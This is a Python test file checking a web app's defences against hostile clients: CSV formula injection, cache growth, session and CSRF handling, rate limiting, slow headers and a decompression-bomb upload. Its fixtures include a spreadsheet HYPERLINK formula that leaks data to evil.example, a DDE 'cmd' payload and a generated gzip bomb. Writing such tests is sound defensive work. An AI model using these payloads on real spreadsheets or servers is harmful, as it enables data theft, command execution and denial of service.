"""Hostile clients (issue 16): anonymous memory growth, formula cells, sessions, slow and stopped servers."""

from __future__ import annotations

import csv
import io
import os
import re
import signal
import socket
import subprocess
import sys
import time
from datetime import date
from pathlib import Path

import pytest
from web_kb import TOKEN

import minewatch
from minewatch.model import Actor, Claim, Document, Evidence

FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")'
FORMULA_TEXT = f"{FORMULA_TITLE}\nEstonia said it would leave the Ottawa Convention, officials said on Monday."


def _add_formula_document(store) -> Document:
    doc = Document(text=FORMULA_TEXT, original=FORMULA_TEXT, title=FORMULA_TITLE, outlet="@evil SUM(1+1)",
                   published=date(2025, 7, 2), language="en", url="https://evil.example/a", via=[])
    needle = "Estonia said it would leave the Ottawa Convention"
    start = FORMULA_TEXT.index(needle)
    claim = Claim(doc.id, Actor("state", "EST", "-2+3+cmd|' /C calc'!A0"), "treaty_withdrawal", stage="decided",
                  treaty="APMBC", evidence=[Evidence(start, start + len(needle), needle)])
    store.add_document(doc, claims=[claim], extracted=True)
    return doc


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    bad = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not bad, bad[:5]


# ----------------------------------------------------------------------------- CSV formula injection


def test_csv_cell_neutralises_formula_starts_and_round_trips() -> None:
    from minewatch.output import csv_cell, csv_uncell

    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(value) == "'" + value and csv_uncell(csv_cell(value)) == value
    assert csv_cell("plain") == "plain" and csv_cell(-5) == -5 and csv_uncell("'quoted") == "'quoted"


def test_api_csv_cells_never_start_a_formula(client) -> None:
    _add_formula_document(client.store)
    for path in ("/api/documents?format=csv", "/api/claims?format=csv", "/api/facts?format=csv"):
        r = client.get(path)
        assert r.status_code == 200
        cells = _cells(r.text)
        _assert_no_formula(cells)
    assert "'" + FORMULA_TITLE in _cells(client.get("/api/documents?format=csv").text)


def test_export_csv_cells_never_start_a_formula(kb, tmp_path: Path) -> None:
    from minewatch.export import export_all

    store, _ = kb
    _add_formula_document(store)
    written = export_all(store, "csv", tmp_path / "out")
    texts = [Path(t["file"]).read_text(encoding="utf-8") for t in written["tables"].values()]
    for text in texts:
        _assert_no_formula(_cells(text))
    assert any("'" + FORMULA_TITLE in _cells(text) for text in texts)


# ----------------------------------------------------------------------------- cache amplification


def _response_cache(app):
    from minewatch.web.cache import ApiResponseCache

    node = app.middleware_stack
    while node is not None and not isinstance(node, ApiResponseCache):
        node = getattr(node, "app", None)
    assert node is not None
    return node


def test_unknown_query_parameters_are_a_422_and_no_cache_entry(client) -> None:
    r = client.get("/api/facts?junk=1")
    assert r.status_code == 422 and "junk" in r.json()["detail"]
    assert client.get("/api/facts?stat=LTU").status_code == 422  # a typo is told, not ignored
    cache = _response_cache(client.app)
    before = len(cache.entries)
    for i in range(50):
        assert client.get(f"/api/facts?junk={i}").status_code == 422
    assert len(cache.entries) == before
    # the same parameters in another order are one entry
    client.get("/api/documents?limit=2&language=en")
    n = len(cache.entries)
    client.get("/api/documents?language=en&limit=2")
    assert len(cache.entries) == n and cache.hits >= 1


def test_response_cache_is_bounded_in_bytes(client) -> None:
    cache = _response_cache(client.app)
    cache.max_bytes = 60_000
    for i in range(120):  # valid, unique parameters: each a new answer
        assert client.get(f"/api/documents?text=treaty&limit={i % 200 + 1}&language=en").status_code == 200
        assert client.get(f"/api/claims?text=w{i}").status_code == 200
    kept = sum(len(body) + sum(len(k) + len(v) for k, v in headers) for _, headers, body in cache.entries.values())
    assert kept <= 60_000 and cache.bytes <= 60_000
    assert len(cache.entries) < 240


def test_state_page_cache_ignores_parameters_the_page_does_not_take(client) -> None:
    from minewatch.web import pages

    pages._PAGES.entries.clear()
    pages._PAGES.bytes = 0
    for i in range(30):
        assert client.get(f"/states/LTU?junk={i}").status_code == 200
    assert len(pages._PAGES.entries) == 1


# ----------------------------------------------------------------------------- sessions


def _csrf(client) -> str:
    page = client.get("/login").text
    return re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)


def _login(client, **headers: str):
    csrf = _csrf(client)
    return client.post("/login", data={"token": TOKEN, "csrf_token": csrf, "next": "/"}, headers=headers,
                       follow_redirects=False)


def _signed_in(client) -> bool:
    return "Sign out" in client.get("/").text


def test_cross_site_logout_without_csrf_does_not_sign_out(client) -> None:
    assert _login(client).status_code == 303 and _signed_in(client)
    session = client.cookies.get("mw_session")
    csrf = client.cookies.get("mw_csrf")
    client.cookies.delete("mw_csrf")  # a cross-site form carries neither the field nor (SameSite) the cookie
    r = client.post("/logout", data={}, follow_redirects=False)
    assert r.status_code == 403
    client.cookies.set("mw_csrf", csrf)
    assert client.cookies.get("mw_session") == session and _signed_in(client)
    r = client.post("/logout", data={"csrf_token": csrf}, headers={"Sec-Fetch-Site": "cross-site"},
                    follow_redirects=False)
    assert r.status_code == 403 and _signed_in(client)


def test_logout_revokes_the_session_on_the_server(client) -> None:
    _login(client)
    stolen = client.cookies.get("mw_session")
    csrf = client.cookies.get("mw_csrf")
    assert client.post("/logout", data={"csrf_token": csrf}, follow_redirects=False).status_code == 303
    assert not _signed_in(client)
    client.cookies.set("mw_session", stolen)  # the cookie kept by someone else is no longer accepted
    assert not _signed_in(client)


def test_sessions_expire_and_are_not_a_static_value(client) -> None:
    from minewatch.web.security import session_value

    _login(client)
    first = client.cookies.get("mw_session")
    client.cookies.clear()
    _login(client)
    assert client.cookies.get("mw_session") != first  # a fresh session id each time, not an HMAC of the token
    client.cookies.set("mw_session", session_value(TOKEN, now=time.time() - 9 * 3600))
    assert not _signed_in(client)
    client.cookies.set("mw_session", session_value(TOKEN))
    assert _signed_in(client)


def test_session_cookie_is_secure_over_https_or_behind_a_proxy_saying_so(client) -> None:
    plain = _login(client)
    assert "secure" not in plain.headers["set-cookie"].lower()
    client.cookies.clear()
    proxied = _login(client, **{"X-Forwarded-Proto": "https"})
    cookies = [v for k, v in proxied.headers.multi_items() if k == "set-cookie"]
    assert any(c.startswith("mw_session=") and "secure" in c.lower() for c in cookies)


def test_wrong_tokens_are_rate_limited_per_client(client) -> None:
    from minewatch.web.security import MAX_FAILED_ATTEMPTS

    body = {"claim_id": "c-x", "verdict": "verified", "reviewer": "x"}
    codes = [client.post("/api/reviews", json=body, headers={"Authorization": f"Bearer guess-{i}"}).status_code
             for i in range(MAX_FAILED_ATTEMPTS + 3)]
    assert codes[:MAX_FAILED_ATTEMPTS] == [403] * MAX_FAILED_ATTEMPTS
    assert codes[MAX_FAILED_ATTEMPTS:] == [429] * 3
    r = client.post("/api/reviews", json=body, headers={"Authorization": f"Bearer {TOKEN}"})
    assert r.status_code == 429 and "Retry-After" in r.headers
    csrf = _csrf(client)
    assert client.post("/login", data={"token": TOKEN, "csrf_token": csrf}).status_code == 429


# ----------------------------------------------------------------------------- a real server


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory):
    """``minewatch serve`` in its own process over the invented knowledge base (one for the module's tests:
    the slow-header test leaves it running, the SIGTERM test stops it)."""
    from web_kb import fill

    from minewatch.store.repository import Store

    store = Store.open(f"sqlite:///{tmp_path_factory.mktemp('served') / 'web.db'}")
    fill(store)
    port = _free_port()
    env = dict(os.environ, MINEWATCH_TOKEN=TOKEN, MINEWATCH_HEADER_TIMEOUT_S="1",
               PYTHONPATH=os.pathsep.join([str(Path(minewatch.__file__).parents[1]), os.environ.get("PYTHONPATH", "")]))
    db = store.engine.url.database
    proc = subprocess.Popen([sys.executable, "-c", "from minewatch.cli import main; main()", "--db", db, "serve",
                             "--port", str(port)], env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            break
        except OSError:
            if proc.poll() is not None:
                pytest.fail(proc.stdout.read().decode())
            time.sleep(0.2)
    yield proc, port
    if proc.poll() is None:
        proc.kill()
    proc.wait(10)
    proc.stdout.close()


def test_slow_headers_are_timed_out(served) -> None:
    _, port = served
    with socket.create_connection(("127.0.0.1", port), timeout=30) as s:
        s.sendall(b"GET /api/facts HTTP/1.1\r\nHost: x\r\n")  # and then nothing: the headers never end
        started = time.monotonic()
        try:
            data = s.recv(1024)
        except TimeoutError:
            pytest.fail("connection still open after 30 s of unfinished headers")
        assert data in (b"",) or data.startswith(b"HTTP/1.1 4"), data
        assert time.monotonic() - started < 30
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:  # the server still answers
        s.sendall(b"GET /api/treaties HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        assert s.recv(12).startswith(b"HTTP/1.1 200")


def test_sigterm_stops_the_server_with_an_upload_in_flight(served) -> None:
    proc, port = served
    with socket.create_connection(("127.0.0.1", port), timeout=30) as s:
        s.sendall(b"POST /api/ingest HTTP/1.1\r\nHost: x\r\n"
                  + f"Authorization: Bearer {TOKEN}\r\n".encode()
                  + b"Content-Type: multipart/form-data; boundary=XX\r\nContent-Length: 5000000\r\n\r\n"
                  + b"--XX\r\nContent-Disposition: form-data; name=\"files\"; filename=\"a.txt\"\r\n\r\nslow")
        time.sleep(0.5)  # the request is in flight, its body never completes
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(20)
        except subprocess.TimeoutExpired:
            pytest.fail("server still running 20 s after SIGTERM")


def test_a_bomb_uploaded_to_the_api_gets_a_short_answer_and_the_good_file_goes_in(client) -> None:
    import zlib

    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join([*(comp.compress(b"\0" * (1 << 20)) for _ in range(50)), comp.flush()])  # 50 KB -> 50 MB
    # off-topic on purpose: the relevance screen stops it before extraction, which keeps the test fast
    good = b"The city council of Ruritania approved a new budget for its public libraries on Tuesday, officials said."
    r = client.post("/api/ingest", headers={"Authorization": f"Bearer {TOKEN}"},
                    files=[("files", ("a.warc.gz", bomb, "application/gzip")), ("files", ("b.txt", good, "text/plain"))])
    assert r.status_code == 200 and len(r.content) < 4000, len(r.content)
    body = r.json()
    assert body["ingested"] == 1 and len(body["skipped"]) == 1
    assert body["skipped"][0]["input"] == "a.warc.gz" and "decompression bomb" in body["skipped"][0]["reason"]


def test_a_review_waiting_on_a_long_write_gets_a_503_not_a_hang(client, monkeypatch: pytest.MonkeyPatch) -> None:
    import threading

    from minewatch.web import api

    monkeypatch.setattr(api, "WRITE_LOCK_WAIT_S", 0.2, raising=False)
    lock = client.app.state.mw.write_lock
    lock.acquire()  # an upload being stored
    releaser = threading.Timer(5.0, lock.release)  # bounds the test whatever the server does
    releaser.start()
    try:
        body = {"claim_id": client.ids["ltu_claim"], "verdict": "verified", "reviewer": "ana"}
        r = client.post("/api/reviews", json=body, headers={"Authorization": f"Bearer {TOKEN}"})
        assert r.status_code == 503 and r.headers.get("Retry-After")
    finally:
        releaser.cancel()
        releaser.join()
        if lock.locked():
            lock.release()
